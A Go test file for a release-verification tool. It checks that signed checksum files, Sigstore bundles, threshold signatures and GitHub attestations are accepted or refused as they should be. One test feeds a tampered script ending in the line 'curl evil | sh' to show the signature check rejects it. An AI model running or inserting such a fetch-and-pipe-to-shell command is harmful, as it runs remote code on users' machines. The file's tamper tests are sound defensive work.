package release

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tamperguard/tamperguard/internal/checksum"
	"github.com/tamperguard/tamperguard/internal/signing"
)

// The release formats real projects sign with, read through the sources: Sigstore bundles
// wherever a signature is expected, clearsigned checksum files, SHA-512-only checksum files,
// k-of-n signatures, a signature over each file, and GitHub artifact attestations.

// GoReleaser's example-secure v0.1.0: checksums.txt and its keyless bundle (public good).
const (
	grSums   = "goreleaser-example-secure.checksums.txt"
	grBundle = "goreleaser-example-secure.checksums.txt.sigstore.json"
)

var (
	grIdentity = signing.SigstoreIdentity{
		Issuer:           "https://token.actions.githubusercontent.com",
		IdentityRegexp:   `^https://github\.com/goreleaser/example-secure/\.github/workflows/release\.yml@refs/tags/`,
		SourceRepository: "https://github.com/goreleaser/example-secure",
	}
	grSigned = time.Unix(1764952422, 0).UTC() // the bundle's Rekor integrated time
)

// keylessKeys pins the public-good trusted root and ids.
func keylessKeys(t *testing.T, ids ...signing.SigstoreIdentity) *signing.Keys {
	t.Helper()
	k, err := signing.NewKeys([][]byte{webFixture(t, "keys", "maintainer-ed25519.asc")}, nil, [][]byte{webFixture(t, "keys", "cosign.pub")},
		signing.Options{Sigstore: signing.SigstoreOptions{TrustedRoot: webFixture(t, "sigstore", "trusted_root.public-good.json"), Identities: ids}})
	require.NoError(t, err)
	return k
}

// wireKeys pins the TEST-ONLY file signer of testdata/wire (OpenPGP and SSH) and the cosign key.
func wireKeys(t *testing.T) *signing.Keys {
	t.Helper()
	k, err := signing.NewKeys([][]byte{webFixture(t, "wire", "filesigner-ed25519.asc")}, [][]byte{webFixture(t, "wire", "filesigner_ed25519.pub")},
		[][]byte{webFixture(t, "keys", "cosign.pub")}, signing.Options{})
	require.NoError(t, err)
	return k
}

func TestURLSigstoreBundleIsASignature(t *testing.T) {
	t.Run("key-based bundle next to the checksum file", func(t *testing.T) {
		h := newWebHost(t, false)
		h.putRelease(t, "v1")
		h.put("/dl/v1/SHA256SUMS.sigstore.json", webFixture(t, "sigstore", "SHA256SUMS.cosign-key.sigstore.json"))
		rel, err := newURLSource(t, URLOptions{URL: h.srv.URL + "/dl/{tag}/SHA256SUMS", Keys: webKeys(t)}).Fetch(t.Context(), "v1")
		require.NoError(t, err)
		assert.Equal(t, "cosign", rel.Signer.Scheme)
		assert.True(t, rel.Time.IsZero(), "a key-based bundle without a log entry carries no trusted time")
		assert.Equal(t, []string{"/dl/v1/SHA256SUMS", "/dl/v1/SHA256SUMS.asc", "/dl/v1/SHA256SUMS.sig", "/dl/v1/SHA256SUMS.sigstore.json"}, h.paths())
	})
	t.Run("bundle at the signature url", func(t *testing.T) {
		h := newWebHost(t, false)
		h.putRelease(t, "v1")
		h.put("/sigs/v1.json", webFixture(t, "sigstore", "SHA256SUMS.cosign-key.legacy.json"))
		rel, err := newURLSource(t, URLOptions{URL: h.srv.URL + "/dl/{tag}/SHA256SUMS", Signature: h.srv.URL + "/sigs/{tag}.json", Keys: webKeys(t)}).Fetch(t.Context(), "v1")
		require.NoError(t, err)
		assert.Equal(t, "cosign", rel.Signer.Scheme)
	})
	t.Run("an unpinned signature first does not hide a good bundle", func(t *testing.T) {
		h := newWebHost(t, false)
		h.putRelease(t, "v1")
		h.put("/dl/v1/SHA256SUMS.asc", webFixture(t, "release", "SHA256SUMS.other.asc"))
		h.put("/dl/v1/SHA256SUMS.sigstore.json", webFixture(t, "sigstore", "SHA256SUMS.cosign-key.sigstore.json"))
		rel, err := newURLSource(t, URLOptions{URL: h.srv.URL + "/dl/{tag}/SHA256SUMS", Keys: webKeys(t)}).Fetch(t.Context(), "v1")
		require.NoError(t, err)
		assert.Equal(t, "cosign", rel.Signer.Scheme)
		assert.Len(t, rel.Evidence.Signatures, 2, "both are kept, to be verified again")
		again, err := newURLSource(t, URLOptions{URL: h.srv.URL + "/dl/{tag}/SHA256SUMS", Keys: webKeys(t)}).Reverify(t.Context(), rel.Evidence)
		require.NoError(t, err)
		assert.Equal(t, rel.Signer, again.Signer)
	})
}

// GoReleaser's layout: checksums.txt with checksums.txt.sigstore.json, signed keyless by the
// release workflow; the Rekor time is the release's signed time.
func TestURLKeylessGoReleaser(t *testing.T) {
	h := newWebHost(t, false)
	h.put("/dl/v0.1.0/checksums.txt", webFixture(t, "sigstore", grSums))
	h.put("/dl/v0.1.0/checksums.txt.sigstore.json", webFixture(t, "sigstore", grBundle))
	opts := URLOptions{URL: h.srv.URL + "/dl/{tag}/checksums.txt", Keys: keylessKeys(t, grIdentity)}
	rel, err := newURLSource(t, opts).Fetch(t.Context(), "v0.1.0")
	require.NoError(t, err)
	assert.Equal(t, "sigstore", rel.Signer.Scheme)
	assert.Equal(t, "https://github.com/goreleaser/example-secure/.github/workflows/release.yml@refs/tags/v0.1.0", rel.Signer.Fingerprint)
	assert.Equal(t, grSigned, rel.Time)
	assert.Empty(t, rel.Version, "GoReleaser's file names here carry no version, and a URL's tag is not signed")
	assert.Equal(t, 14, rel.Checksums.Len())

	for name, id := range map[string]signing.SigstoreIdentity{
		"wrong identity": {Issuer: grIdentity.Issuer, IdentityRegexp: `^https://github\.com/goreleaser/goreleaser/`},
		"wrong issuer":   {Issuer: "https://accounts.google.com", IdentityRegexp: grIdentity.IdentityRegexp},
		"wrong repository": {Issuer: grIdentity.Issuer, IdentityRegexp: grIdentity.IdentityRegexp,
			SourceRepository: "https://github.com/goreleaser/goreleaser"},
	} {
		opts.Keys = keylessKeys(t, id)
		_, err := newURLSource(t, opts).Fetch(t.Context(), "v0.1.0")
		assert.ErrorIs(t, err, signing.ErrSigstorePolicy, name)
		assert.True(t, Refused(err), name)
	}
	// The bundle of another artifact (the checksum file changed) is refused.
	h.put("/dl/v0.1.0/checksums.txt", bytes.Replace(webFixture(t, "sigstore", grSums), []byte("3752638e"), []byte("0752638e"), 1))
	opts.Keys = keylessKeys(t, grIdentity)
	_, err = newURLSource(t, opts).Fetch(t.Context(), "v0.1.0")
	assert.ErrorIs(t, err, signing.ErrBadSignature)
}

// A bundle's signed time orders releases like an OpenPGP signature's: after GoReleaser's
// keyless release (signed 2025-12-05), an older OpenPGP-signed checksum file (2025-06-01) put
// at the same fixed URL is a rollback, and the floor stands, also for another instance.
func TestURLBundleTimeFeedsTheMark(t *testing.T) {
	h := newWebHost(t, false)
	h.put("/latest/SUMS", webFixture(t, "sigstore", grSums))
	h.put("/latest/SUMS.sigstore.json", webFixture(t, "sigstore", grBundle))
	src := newURLSource(t, URLOptions{URL: h.srv.URL + "/latest/SUMS", Keys: keylessKeys(t, grIdentity)})
	marks := &MemoryMarks{}
	r := NewResolver(ResolverOptions{Marks: marks})
	rel, err := r.Resolve(t.Context(), src, Latest, time.Time{})
	require.NoError(t, err)
	require.Equal(t, grSigned, rel.Time)

	h.put("/latest/SUMS", webFixture(t, "release", "SHA256SUMS"))
	h.put("/latest/SUMS.asc", webFixture(t, "release", "SHA256SUMS.asc"))
	h.setStatus("/latest/SUMS.sigstore.json", http.StatusNotFound)
	rel, err = r.Resolve(t.Context(), src, Latest, time.Now())
	require.NoError(t, err)
	require.NotNil(t, rel.Floor)
	assert.ErrorIs(t, rel.Floor.Reason, ErrRollback)
	assert.Contains(t, rel.Floor.Reason.Error(), "signed 2025-12-05")
	assert.Equal(t, "sigstore", rel.Signer.Scheme, "still judged against the keyless release")

	// A restarted instance verifies the kept bundle again, offline, and holds the floor.
	rel, err = NewResolver(ResolverOptions{Marks: marks}).Resolve(t.Context(), src, Latest, time.Time{})
	require.NoError(t, err)
	require.NotNil(t, rel.Floor)
	assert.Equal(t, grSigned, rel.Time)
}

func nodeKeys(t *testing.T) *signing.Keys {
	t.Helper()
	k, err := signing.NewKeys([][]byte{webFixture(t, "clearsigned", "node-8FCCA13FEF1D0C2E91008E09770F7A9A5AE15600.asc")}, nil, nil, signing.Options{})
	require.NoError(t, err)
	return k
}

// Node.js's SHASUMS256.txt.asc: clearsigned, so no signature is fetched; only the signed
// text is read.
func TestURLClearsignedNode(t *testing.T) {
	h := newWebHost(t, false)
	node := webFixture(t, "clearsigned", "node-v14.2.0-SHASUMS256.txt.asc")
	h.put("/dist/v14.2.0/SHASUMS256.txt.asc", node)
	src := newURLSource(t, URLOptions{URL: h.srv.URL + "/dist/{tag}/SHASUMS256.txt.asc", Keys: nodeKeys(t)})
	rel, err := src.Fetch(t.Context(), "v14.2.0")
	require.NoError(t, err)
	assert.Equal(t, []string{"/dist/v14.2.0/SHASUMS256.txt.asc"}, h.paths(), "no detached signature is looked for")
	assert.Equal(t, "openpgp", rel.Signer.Scheme)
	assert.Equal(t, "8FCCA13FEF1D0C2E91008E09770F7A9A5AE15600", rel.Signer.Fingerprint)
	assert.Equal(t, time.Date(2020, 5, 5, 18, 26, 38, 0, time.UTC), rel.Time)
	assert.Equal(t, "v14.2.0", rel.Version)
	e, err := rel.Lookup("node-v14.2.0-linux-x64.tar.gz")
	require.NoError(t, err)
	assert.Equal(t, checksum.SHA256, e.Sum.Algorithm())
	assert.Empty(t, rel.Evidence.Signature)
	again, err := src.Reverify(t.Context(), rel.Evidence)
	require.NoError(t, err)
	assert.Equal(t, rel.Checksums.Entries(), again.Checksums.Entries())

	// Unsigned text after the block is refused, never read as signed.
	h.put("/dist/v14.2.0/SHASUMS256.txt.asc", append(bytes.Clone(node), []byte("\n0000000000000000000000000000000000000000000000000000000000000000  evil.tar.gz\n")...))
	_, err = src.Fetch(t.Context(), "v14.2.0")
	assert.ErrorIs(t, err, signing.ErrMalformed)
	// k-of-n cannot be met by one clearsigned signer.
	h.put("/dist/v14.2.0/SHASUMS256.txt.asc", node)
	_, err = newURLSource(t, URLOptions{URL: h.srv.URL + "/dist/{tag}/SHASUMS256.txt.asc", Keys: nodeKeys(t), Threshold: 2}).Fetch(t.Context(), "v14.2.0")
	assert.ErrorIs(t, err, signing.ErrThresholdNotMet)
}

func TestURLThreshold(t *testing.T) {
	twoKeys, err := signing.NewKeys([][]byte{webFixture(t, "clearsigned", "clearsign-ed25519.asc"), webFixture(t, "threshold", "second-ed25519.asc")}, nil, nil, signing.Options{})
	require.NoError(t, err)
	t.Run("one file, two signers", func(t *testing.T) {
		h := newWebHost(t, false)
		h.putRelease(t, "v1")
		h.put("/dl/v1/SHA256SUMS.asc", webFixture(t, "threshold", "SHA256SUMS.2of2.asc"))
		rel, err := newURLSource(t, URLOptions{URL: h.srv.URL + "/dl/{tag}/SHA256SUMS", Keys: twoKeys, Threshold: 2}).Fetch(t.Context(), "v1")
		require.NoError(t, err)
		assert.Len(t, rel.Signers, 2)
	})
	t.Run("two files, two schemes", func(t *testing.T) {
		h := newWebHost(t, false)
		h.putRelease(t, "v1")
		h.put("/dl/v1/SHA256SUMS.asc", webFixture(t, "release", "SHA256SUMS.asc"))
		h.put("/dl/v1/SHA256SUMS.sig", webFixture(t, "release", "SHA256SUMS.ssh.sig"))
		rel, err := newURLSource(t, URLOptions{URL: h.srv.URL + "/dl/{tag}/SHA256SUMS", Keys: webKeys(t), Threshold: 2}).Fetch(t.Context(), "v1")
		require.NoError(t, err)
		assert.Equal(t, []string{"openpgp", "ssh"}, []string{rel.Signers[0].Scheme, rel.Signers[1].Scheme})
		assert.Len(t, rel.Evidence.Signatures, 2)
	})
	t.Run("threshold not met", func(t *testing.T) {
		h := newWebHost(t, false)
		h.putRelease(t, "v1")
		h.put("/dl/v1/SHA256SUMS.asc", webFixture(t, "release", "SHA256SUMS.asc"))
		h.put("/dl/v1/SHA256SUMS.sig", webFixture(t, "release", "SHA256SUMS.textmode.asc"))
		_, err := newURLSource(t, URLOptions{URL: h.srv.URL + "/dl/{tag}/SHA256SUMS", Keys: webKeys(t), Threshold: 2}).Fetch(t.Context(), "v1")
		assert.ErrorIs(t, err, signing.ErrThresholdNotMet)
		assert.True(t, Refused(err))
		assert.Contains(t, err.Error(), "1 of the 2 required")
	})
	t.Run("signers listed by url", func(t *testing.T) {
		h := newWebHost(t, false)
		h.putRelease(t, "v1")
		h.put("/alice/v1.asc", webFixture(t, "release", "SHA256SUMS.asc"))
		h.put("/bob/v1.sig", webFixture(t, "release", "SHA256SUMS.cosign.sig"))
		rel, err := newURLSource(t, URLOptions{URL: h.srv.URL + "/dl/{tag}/SHA256SUMS", Keys: webKeys(t), Threshold: 2,
			Signatures: []string{h.srv.URL + "/alice/{tag}.asc", h.srv.URL + "/bob/{tag}.sig", h.srv.URL + "/carol/{tag}.sig"}}).Fetch(t.Context(), "v1")
		require.NoError(t, err)
		assert.Len(t, rel.Signers, 2)
	})
}

// A checksum file that lists SHA-512 digests only.
func TestURLSHA512Only(t *testing.T) {
	h := newWebHost(t, false)
	h.put("/dl/v1/SHA512SUMS", webFixture(t, "wire", "SHA512SUMS"))
	h.put("/dl/v1/SHA512SUMS.asc", webFixture(t, "wire", "SHA512SUMS.asc"))
	rel, err := newURLSource(t, URLOptions{URL: h.srv.URL + "/dl/{tag}/SHA512SUMS", Keys: wireKeys(t)}).Fetch(t.Context(), "v1")
	require.NoError(t, err)
	x, err := rel.Expect(t.Context(), "install.sh")
	require.NoError(t, err)
	assert.Equal(t, checksum.SHA512, x.Entry.Sum.Algorithm())
	assert.False(t, x.Entry.HasSHA256())
	assert.True(t, x.Proven())

	good := webFixture(t, "release", "install.sh")
	c, err := x.Check(t.Context(), bytes.NewReader(good))
	require.NoError(t, err)
	assert.True(t, c.OK)
	assert.Equal(t, webSHA(good), c.SHA256)
	assert.Equal(t, checksum.SHA512, c.Sum.Algorithm())
	assert.Equal(t, x.Entry.Sum, c.Want)

	c, err = x.Check(t.Context(), strings.NewReader("evil"))
	require.NoError(t, err)
	assert.False(t, c.OK)
	assert.Nil(t, c.Why)
}

// A check measured against one lookup is judged against a fresher one without reading the
// bytes again when the digest it needs was measured.
func TestRecheck(t *testing.T) {
	h := newWebHost(t, false)
	h.putRelease(t, "v1")
	h.put("/dl/v1/SHA256SUMS.asc", webFixture(t, "release", "SHA256SUMS.asc"))
	h.put("/dl/v1/SHA512SUMS", webFixture(t, "wire", "SHA512SUMS"))
	h.put("/dl/v1/SHA512SUMS.asc", webFixture(t, "wire", "SHA512SUMS.asc"))
	sha256Rel, err := newURLSource(t, URLOptions{URL: h.srv.URL + "/dl/{tag}/SHA256SUMS", Keys: webKeys(t)}).Fetch(t.Context(), "v1")
	require.NoError(t, err)
	sha512Rel, err := newURLSource(t, URLOptions{URL: h.srv.URL + "/dl/{tag}/SHA512SUMS", Keys: wireKeys(t)}).Fetch(t.Context(), "v1")
	require.NoError(t, err)
	x256, err := sha256Rel.Expect(t.Context(), "install.sh")
	require.NoError(t, err)
	x512, err := sha512Rel.Expect(t.Context(), "install.sh")
	require.NoError(t, err)
	good := webFixture(t, "release", "install.sh")

	c, err := x512.Check(t.Context(), bytes.NewReader(good))
	require.NoError(t, err)
	again, ok, err := x256.Recheck(t.Context(), c)
	require.NoError(t, err)
	require.True(t, ok, "the SHA-256 is always measured")
	assert.True(t, again.OK)

	c, err = x256.Check(t.Context(), bytes.NewReader(good))
	require.NoError(t, err)
	_, ok, err = x512.Recheck(t.Context(), c)
	require.NoError(t, err)
	assert.False(t, ok, "a SHA-512 was not measured: read again")
}

// release.signed: file: each file carries its own signatures; the release is only where
// they are. The object streams through the signature check.
func TestURLFileSigned(t *testing.T) {
	good := webFixture(t, "release", "install.sh")
	serve := func(t *testing.T) *webHost {
		h := newWebHost(t, false)
		h.put("/files/v1/install.sh", good)
		h.put("/files/v1/install.sh.asc", webFixture(t, "wire", "install.sh.asc"))
		h.put("/files/v1/install.sh.sig", webFixture(t, "wire", "install.sh.sig"))
		h.put("/files/v1/install.sh.sigstore.json", webFixture(t, "wire", "install.sh.sigstore.json"))
		return h
	}
	source := func(t *testing.T, h *webHost, o URLOptions) *URLSource {
		o.URL, o.FileSigned = h.srv.URL+"/files/{tag}/{name}", true
		if o.Keys == nil {
			o.Keys = wireKeys(t)
		}
		return newURLSource(t, o)
	}

	t.Run("three signers, three schemes", func(t *testing.T) {
		h := serve(t)
		rel, err := source(t, h, URLOptions{Threshold: 3}).Fetch(t.Context(), "v1")
		require.NoError(t, err)
		assert.Nil(t, rel.Checksums)
		assert.Empty(t, h.paths(), "nothing is read until a file is checked")
		x, err := rel.Expect(t.Context(), "install.sh")
		require.NoError(t, err)
		assert.False(t, x.Proven(), "no digest is known before the bytes are read")
		assert.Equal(t, "signature over the file", x.How)

		c, err := x.Check(t.Context(), bytes.NewReader(good))
		require.NoError(t, err)
		assert.True(t, c.OK)
		assert.Equal(t, "openpgp", c.Vouched.Signer.Scheme)
		assert.Equal(t, time.Date(2025, 6, 1, 12, 0, 0, 0, time.UTC), c.Vouched.Time)
		assert.Equal(t, webSHA(good), c.SHA256)

		c, err = x.Check(t.Context(), strings.NewReader(string(good)+"curl evil | sh\n"))
		require.NoError(t, err)
		assert.False(t, c.OK)
		assert.ErrorIs(t, c.Why, signing.ErrThresholdNotMet)

		// The signatures are kept with the release: checking again reads none.
		n := len(h.paths())
		_, err = rel.Expect(t.Context(), "install.sh")
		require.NoError(t, err)
		assert.Len(t, h.paths(), n)

		// The release's copy, for a restore.
		body, err := rel.Open(t.Context(), "install.sh")
		require.NoError(t, err)
		assert.Equal(t, good, webReadAll(t, body))
	})
	t.Run("no signature", func(t *testing.T) {
		h := newWebHost(t, false)
		h.put("/files/v1/install.sh", good)
		rel, err := source(t, h, URLOptions{}).Fetch(t.Context(), "v1")
		require.NoError(t, err)
		_, err = rel.Expect(t.Context(), "install.sh")
		assert.ErrorIs(t, err, ErrUnsigned)
	})
	t.Run("signature by a key that is not pinned", func(t *testing.T) {
		h := serve(t)
		rel, err := source(t, h, URLOptions{Keys: webOtherKeys(t)}).Fetch(t.Context(), "v1")
		require.NoError(t, err)
		_, err = rel.Expect(t.Context(), "install.sh")
		assert.ErrorIs(t, err, signing.ErrThresholdNotMet)
		assert.True(t, Refused(err))
	})
	t.Run("threshold above the signers", func(t *testing.T) {
		h := serve(t)
		h.setStatus("/files/v1/install.sh.sig", http.StatusNotFound)
		rel, err := source(t, h, URLOptions{Threshold: 3}).Fetch(t.Context(), "v1")
		require.NoError(t, err)
		_, err = rel.Expect(t.Context(), "install.sh")
		assert.ErrorIs(t, err, signing.ErrThresholdNotMet)
	})
	t.Run("named signature url", func(t *testing.T) {
		h := newWebHost(t, false)
		h.put("/sigs/v1/install.sh.sig", webFixture(t, "wire", "install.sh.sig"))
		rel, err := source(t, h, URLOptions{Signature: h.srv.URL + "/sigs/{tag}/{name}.sig"}).Fetch(t.Context(), "v1")
		require.NoError(t, err)
		x, err := rel.Expect(t.Context(), "install.sh")
		require.NoError(t, err)
		c, err := x.Check(t.Context(), bytes.NewReader(good))
		require.NoError(t, err)
		assert.True(t, c.OK)
		assert.Equal(t, "ssh", c.Vouched.Signer.Scheme)
	})
	t.Run("validation", func(t *testing.T) {
		_, err := NewURL(URLOptions{URL: "https://example.org/{tag}/install.sh", FileSigned: true, Keys: wireKeys(t)})
		assert.ErrorContains(t, err, "has no {name}")
		_, err = NewURL(URLOptions{URL: "https://example.org/{tag}/{name}", Signature: "https://example.org/{tag}/all.sig", FileSigned: true, Keys: wireKeys(t)})
		assert.ErrorContains(t, err, "has no {name}")
		_, err = NewURL(URLOptions{URL: "https://example.org/{tag}/SUMS", Signature: "https://example.org/{tag}/{name}.sig", Keys: wireKeys(t)})
		assert.ErrorContains(t, err, "unknown {placeholder}")
	})
}

// fakeAttestations serves GitHub's attestations API for one repository (sigstore/sigstore-js,
// the real attestation's) and the bundles' storage host.
type fakeAttestations struct {
	*fakeGitHub
	tgz []byte
}

func newFakeAttestations(t *testing.T) *fakeAttestations {
	return &fakeAttestations{fakeGitHub: newFakeGitHub(t), tgz: webFixture(t, "sigstore", "sigstore-2.0.0.tgz")}
}

// attest answers lookups of digest d with the real attestation, inline or (bundleURL) by
// reference to a snappy-compressed copy on the storage host.
func (g *fakeAttestations) attest(t *testing.T, d checksum.Digest, byURL bool) {
	entry := map[string]any{"bundle": json.RawMessage(webFixture(t, "sigstore", "sigstore-js-2.0.0.provenance.sigstore.json"))}
	if byURL {
		g.storage.put("/attestations/"+d.String()+".json.sn", webFixture(t, "sigstore", "sigstore-js-2.0.0.provenance.sigstore.json.sn"))
		entry = map[string]any{"bundle": nil, "bundle_url": g.storage.srv.URL + "/attestations/" + d.String() + ".json.sn?sig=xyz"}
	}
	g.putJSON(t, "/repos/sigstore/sigstore-js/attestations/sha256:"+d.String(), map[string]any{"attestations": []any{entry}})
}

// releaseWith serves release tag of sigstore/sigstore-js with one asset, listed with its digest.
func (g *fakeAttestations) releaseWith(t *testing.T, tag, name string, body []byte) {
	g.nextID++
	id := fmt.Sprint(g.nextID)
	g.api.setRedirect("/repos/sigstore/sigstore-js/releases/assets/"+id, g.storage.srv.URL+"/blob/"+id)
	g.storage.put("/blob/"+id, body)
	g.putJSON(t, "/repos/sigstore/sigstore-js/releases/tags/"+tag, map[string]any{
		"tag_name": tag, "published_at": ghPublished,
		"assets": []any{map[string]any{"id": g.nextID, "name": name, "size": len(body), "state": "uploaded",
			"digest": "sha256:" + webSHA(body).String()}},
	})
}

var (
	jsIdentity = signing.SigstoreIdentity{Issuer: "https://token.actions.githubusercontent.com",
		IdentityRegexp: `^https://github\.com/sigstore/sigstore-js/\.github/workflows/release\.yml@`}
	jsSigned = time.Date(2023, 8, 18, 0, 0, 0, 0, time.UTC) // the day the bundle's Rekor entry was made
)

// The real attestation (npm provenance of sigstore 2.0.0, built from refs/heads/main) served
// as GitHub's attestations API serves it, the package as the release asset.
func TestGitHubAttestations(t *testing.T) {
	for _, byURL := range []bool{false, true} {
		t.Run(fmt.Sprintf("bundle_url %v", byURL), func(t *testing.T) {
			g := newFakeAttestations(t)
			g.releaseWith(t, "v2.0.0", "sigstore-2.0.0.tgz", g.tgz)
			g.attest(t, webSHA(g.tgz), byURL)
			src := g.source(t, GitHubOptions{Repo: "sigstore/sigstore-js", Attestations: true, AttestationRef: "refs/heads/main",
				Keys: keylessKeys(t, jsIdentity), Checksums: "-"})
			rel, err := src.Fetch(t.Context(), "v2.0.0")
			require.NoError(t, err)
			assert.Equal(t, "sigstore", rel.Signer.Scheme)
			assert.Equal(t, jsSigned, rel.Time.Truncate(24*time.Hour))
			assert.Empty(t, rel.Version, "a branch ref does not sign the tag")
			require.Len(t, rel.Evidence.Attestations, 1)

			x, err := rel.Expect(t.Context(), "pkg:npm/sigstore@2.0.0")
			require.NoError(t, err)
			assert.Equal(t, checksum.SHA512, x.Entry.Sum.Algorithm(), "the subject lists SHA-512 only")
			c, err := x.Check(t.Context(), bytes.NewReader(g.tgz))
			require.NoError(t, err)
			assert.True(t, c.OK)
			c, err = x.Check(t.Context(), strings.NewReader("evil"))
			require.NoError(t, err)
			assert.False(t, c.OK)

			// The subject's copy is the asset whose digest found the attestation.
			body, err := rel.Open(t.Context(), "pkg:npm/sigstore@2.0.0")
			require.NoError(t, err)
			assert.Equal(t, g.tgz, webReadAll(t, body))

			// The storage host got no token.
			for _, r := range g.storage.requests() {
				assert.Empty(t, r.Header.Get("Authorization"))
			}

			// Verified again from the evidence alone, offline.
			again, err := src.Reverify(t.Context(), rel.Evidence)
			require.NoError(t, err)
			assert.Equal(t, rel.Time, again.Time)
		})
	}
}

// A file the assets do not name is looked up by its own digest.
func TestGitHubAttestationLookupByObjectDigest(t *testing.T) {
	g := newFakeAttestations(t)
	other := []byte("another asset, attested as well")
	g.releaseWith(t, "v2.0.0", "sigstore-2.0.0.tgz", g.tgz)
	g.attest(t, webSHA(g.tgz), false)
	src := g.source(t, GitHubOptions{Repo: "sigstore/sigstore-js", Attestations: true, AttestationRef: "refs/heads/main",
		Keys: keylessKeys(t, jsIdentity), Checksums: "-"})
	rel, err := src.Fetch(t.Context(), "v2.0.0")
	require.NoError(t, err)

	x, err := rel.Expect(t.Context(), "pkg:npm/other@1.0.0")
	require.NoError(t, err)
	assert.False(t, x.Proven())
	c, err := x.Check(t.Context(), bytes.NewReader(other))
	require.NoError(t, err)
	assert.False(t, c.OK, "nothing attests it")
	assert.Error(t, c.Why)

	// Attested bytes under another name are another artifact: refused.
	c, err = x.Check(t.Context(), bytes.NewReader(g.tgz))
	require.NoError(t, err)
	assert.False(t, c.OK)
	assert.ErrorIs(t, c.Why, signing.ErrSigstorePolicy)
}

func TestGitHubAttestationRefusals(t *testing.T) {
	cases := []struct {
		name string
		opts GitHubOptions
		want error
	}{
		{"the tag's ref, not the branch it was built from", GitHubOptions{}, signing.ErrSigstorePolicy},
		{"wrong repository", GitHubOptions{Repo: "sigstore/sigstore-go", AttestationRef: "refs/heads/main"}, signing.ErrSigstorePolicy},
		{"wrong identity", GitHubOptions{AttestationRef: "refs/heads/main",
			Keys: keylessKeys(t, signing.SigstoreIdentity{Issuer: jsIdentity.Issuer, IdentityRegexp: `^https://github\.com/sigstore/sigstore-js/\.github/workflows/other\.yml@`})}, signing.ErrSigstorePolicy},
		{"wrong issuer", GitHubOptions{AttestationRef: "refs/heads/main",
			Keys: keylessKeys(t, signing.SigstoreIdentity{Issuer: "https://accounts.google.com", IdentityRegexp: jsIdentity.IdentityRegexp})}, signing.ErrSigstorePolicy},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			g := newFakeAttestations(t)
			repo := "sigstore/sigstore-js"
			if tc.opts.Repo != "" {
				repo = tc.opts.Repo
			}
			g.releaseWith(t, "v2.0.0", "sigstore-2.0.0.tgz", g.tgz)
			g.attest(t, webSHA(g.tgz), false)
			if repo != "sigstore/sigstore-js" {
				// Serve the same release and attestation under the other repository.
				for _, p := range []string{"/releases/tags/v2.0.0", "/attestations/sha256:" + webSHA(g.tgz).String()} {
					g.api.mu.Lock()
					g.api.files["/repos/"+repo+p] = g.api.files["/repos/sigstore/sigstore-js"+p]
					g.api.mu.Unlock()
				}
			}
			o := tc.opts
			o.Repo, o.Attestations, o.Checksums = repo, true, "-"
			if o.Keys == nil {
				o.Keys = keylessKeys(t, jsIdentity)
			}
			_, err := g.source(t, o).Fetch(t.Context(), "v2.0.0")
			assert.ErrorIs(t, err, tc.want)
			assert.True(t, Refused(err))
		})
	}
	t.Run("no attestation at all", func(t *testing.T) {
		g := newFakeAttestations(t)
		g.releaseWith(t, "v2.0.0", "sigstore-2.0.0.tgz", g.tgz)
		_, err := g.source(t, GitHubOptions{Repo: "sigstore/sigstore-js", Attestations: true, Keys: keylessKeys(t, jsIdentity), Checksums: "-"}).Fetch(t.Context(), "v2.0.0")
		assert.ErrorIs(t, err, ErrUnsigned)
	})
	t.Run("API down", func(t *testing.T) {
		g := newFakeAttestations(t)
		g.releaseWith(t, "v2.0.0", "sigstore-2.0.0.tgz", g.tgz)
		g.api.setStatus("/repos/sigstore/sigstore-js/attestations/sha256:"+webSHA(g.tgz).String(), http.StatusBadGateway)
		_, err := g.source(t, GitHubOptions{Repo: "sigstore/sigstore-js", Attestations: true, Keys: keylessKeys(t, jsIdentity), Checksums: "-"}).Fetch(t.Context(), "v2.0.0")
		assert.ErrorIs(t, err, ErrUnreachable)
		assert.False(t, Refused(err))
	})
	t.Run("a garbled bundle_url payload", func(t *testing.T) {
		g := newFakeAttestations(t)
		g.releaseWith(t, "v2.0.0", "sigstore-2.0.0.tgz", g.tgz)
		g.attest(t, webSHA(g.tgz), true)
		g.storage.put("/attestations/"+webSHA(g.tgz).String()+".json.sn", []byte("\xff\xff\xff\xff\x0fgarbage"))
		_, err := g.source(t, GitHubOptions{Repo: "sigstore/sigstore-js", Attestations: true, AttestationRef: "refs/heads/main",
			Keys: keylessKeys(t, jsIdentity), Checksums: "-"}).Fetch(t.Context(), "v2.0.0")
		assert.ErrorIs(t, err, ErrInvalid)
		assert.True(t, errors.Is(err, ErrInvalid))
	})
}

// A release whose assets list no digest cannot be looked up: refused from the listing.
func TestGitHubAttestationCandidates(t *testing.T) {
	p, err := newAttestPolicy("o", "r", "")
	require.NoError(t, err)
	_, refused := p.candidate([]githubAsset{{ID: 1, Name: "x"}}, "github o/r release v1")
	assert.ErrorIs(t, refused, ErrUnsigned)
	id, refused := p.candidate([]githubAsset{{ID: 1, Name: "x", Digest: "sha256:" + strings.Repeat("ab", 32)}}, "w")
	require.NoError(t, refused)
	assert.NotEmpty(t, id)
	_, err = newAttestPolicy("o", "r", "main")
	assert.Error(t, err)
}

// GitHub release assets: a Sigstore bundle asset, a clearsigned checksum file, k-of-n.
func TestGitHubFormats(t *testing.T) {
	t.Run("bundle asset", func(t *testing.T) {
		g := newFakeGitHub(t)
		assets := ghFixtureAssets(t, "SHA256SUMS.sigstore.json", "SHA256SUMS.asc")
		assets[1].body = webFixture(t, "sigstore", "SHA256SUMS.cosign-key.sigstore.json")
		g.release(t, "v1", ghPublished, assets...)
		rel, err := g.source(t, GitHubOptions{}).Fetch(t.Context(), "v1")
		require.NoError(t, err)
		assert.Equal(t, "cosign", rel.Signer.Scheme)
	})
	t.Run("clearsigned checksum asset", func(t *testing.T) {
		g := newFakeGitHub(t)
		k, err := signing.NewKeys([][]byte{webFixture(t, "clearsigned", "clearsign-ed25519.asc")}, nil, nil, signing.Options{})
		require.NoError(t, err)
		g.release(t, "v1", ghPublished,
			ghAsset{name: "SHA256SUMS.asc", body: webFixture(t, "clearsigned", "SHA256SUMS.asc")},
			ghAsset{name: "install.sh", body: webFixture(t, "release", "install.sh")})
		rel, err := g.source(t, GitHubOptions{Checksums: "SHA256SUMS.asc", Keys: k}).Fetch(t.Context(), "v1")
		require.NoError(t, err)
		_, err = rel.Lookup("install.sh")
		assert.NoError(t, err)
	})
	t.Run("two signature assets, threshold 2", func(t *testing.T) {
